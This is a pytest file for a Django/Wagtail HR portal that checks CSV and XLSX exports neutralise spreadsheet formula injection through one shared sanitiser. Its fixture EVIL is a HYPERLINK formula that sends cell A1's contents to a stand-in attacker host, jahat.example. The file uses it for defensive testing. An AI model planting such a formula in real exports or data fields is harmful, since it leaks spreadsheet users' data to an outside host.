"""One spreadsheet sanitiser for every CSV/XLSX the project writes (issue #14, hole 7).

A formula-like employee name (``=HYPERLINK(...)``) comes out as text in the Wagtail admin's
``list_export`` (CSV and XLSX), in Wagtail's own reports and in the /sdm/ exports; every admin
URL whose view exports resolves to a sanitised view; no module writes CSV/XLSX around
``core.exports.safe_cell``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from core import exports

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
NIP = "198503302010011003"


@pytest.fixture
def evil_world(db, make_user):
    from kompetensi.models import Employee, OrganizationUnit

    unit = OrganizationUnit.objects.create(code="DINKES", name="@Dinas Kesehatan")
    employee = Employee.objects.create(nip=NIP, name=EVIL, unit=unit)
    return {"unit": unit, "employee": employee, "hr": make_user("sdm-kota", "BKPSDM")}


def _csv_rows(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_neutral_csv(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells, rows
    assert not any(c.startswith(exports.FORMULA_PREFIXES) for c in cells), rows


def _assert_neutral_xlsx(cells: list) -> None:
    values = [c.value for c in cells]
    assert "'" + EVIL in values, values
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(v, str) and v.startswith(exports.FORMULA_PREFIXES) for v in values)


# -- one sanitiser ----------------------------------------------------------------------------


def test_the_reports_use_the_one_sanitiser():
    from reports import exports as report_exports

    assert report_exports.safe_cell is exports.safe_cell


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter")
ALLOWED_WRITERS = {"reports/exports.py"}


def test_no_other_module_writes_spreadsheets():
    """A new CSV/XLSX writer must go through ``core.exports`` (or be added here after it
    passes every cell through ``safe_cell``)."""
    found = []
    for app in ("portal", "kompetensi", "workflow", "forum", "scripts"):
        for path in (ROOT / app).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if "/migrations/" in rel or rel in ALLOWED_WRITERS:
                continue
            if WRITERS.search(path.read_text(encoding="utf-8")):
                found.append(rel)
    assert not found, f"CSV/XLSX ditulis di luar core/exports.py: {found}"


# -- every exporting admin URL is sanitised ----------------------------------------------------


def _walk(patterns, prefix=""):
    for pattern in patterns:
        route = str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + route)
        elif isinstance(pattern, URLPattern):
            yield prefix + route, pattern


def _sample(route: str) -> str:
    route = re.sub(r"<int:[^>]+>", "1", route)
    route = re.sub(r"<[^>]+>", "x", route)
    return "/" + route.lstrip("^").rstrip("$")


def _exporting_admin_routes() -> list[str]:
    routes = []
    for route, pattern in _walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        initkwargs = getattr(pattern.callback, "view_initkwargs", None) or {}
        if (
            route.startswith("admin/")
            and view_class is not None
            and issubclass(view_class, SpreadsheetExportMixin)
            and (getattr(view_class, "list_export", None) or initkwargs.get("list_export"))
        ):
            routes.append(route)
    return sorted(set(routes))


def test_every_exporting_admin_view_is_sanitised(db):
    from core.admin_exports import SafeSpreadsheetExportMixin

    routes = _exporting_admin_routes()
    # Our viewsets and Wagtail's reports are all found (the walk itself works).
    assert {"admin/pegawai/", "admin/reports/site-history/", "admin/redirects/"} <= set(routes)
    unsafe = []
    for route in routes:
        match = resolve(_sample(route))
        view_class = getattr(match.func, "view_class", None)
        if view_class is None or not issubclass(view_class, SafeSpreadsheetExportMixin):
            unsafe.append(route)
    assert not unsafe, f"ekspor admin tanpa safe_cell: {unsafe}"


def test_wagtail_report_overrides_keep_the_admin_login(db, client):
    login = client.get("/admin/pegawai/")["Location"].split("?")[0]  # as every admin page
    for url in ("/admin/reports/site-history/?export=csv", "/admin/redirects/?export=csv"):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(login + "?")


def test_safe_export_view_is_idempotent():
    from wagtail.admin.views.generic import IndexView

    from core.admin_exports import SafeSpreadsheetExportMixin, safe_export_view

    safe = safe_export_view(IndexView)
    assert safe is safe_export_view(IndexView) is safe_export_view(safe)
    assert safe_export_view(SafeSpreadsheetExportMixin) is SafeSpreadsheetExportMixin


# -- the files ---------------------------------------------------------------------------------


def test_admin_employee_csv_and_xlsx_are_neutralised(evil_world, client):
    client.force_login(evil_world["hr"])
    csv_response = client.get("/admin/pegawai/?export=csv")
    assert csv_response.status_code == 200
    rows = _csv_rows(csv_response)
    _assert_neutral_csv(rows)
    assert any(NIP in row for row in rows)
    xlsx_response = client.get("/admin/pegawai/?export=xlsx")
    assert xlsx_response.status_code == 200
    _assert_neutral_xlsx(_xlsx_cells(xlsx_response))
    # A related object's text (the unit "@Dinas…") is neutralised too.
    units = _csv_rows(client.get("/admin/unit/?export=csv"))
    assert ["'@Dinas Kesehatan"] == [c for row in units for c in row if "Dinas" in c]


def test_wagtail_site_history_export_is_neutralised(evil_world, client, make_user):
    from wagtail.models import Page

    root = Page.objects.get(depth=1)
    page = root.add_child(instance=Page(title=EVIL, slug="jahat"))
    page.save_revision(log_action=True)
    admin = make_user("admin-super", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    _assert_neutral_csv(_csv_rows(response))
    response = client.get("/admin/reports/site-history/?export=xlsx")
    _assert_neutral_xlsx(_xlsx_cells(response))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_sdm_unit_employee_export_is_neutralised(evil_world, client, fmt):
    client.force_login(evil_world["hr"])
    response = client.get("/sdm/unit/DINKES/", {"ekspor": "pegawai", "format": fmt})
    assert response.status_code == 200, response.content[:300]
    if fmt == "csv":
        _assert_neutral_csv(_csv_rows(response))
    else:
        _assert_neutral_xlsx(_xlsx_cells(response))
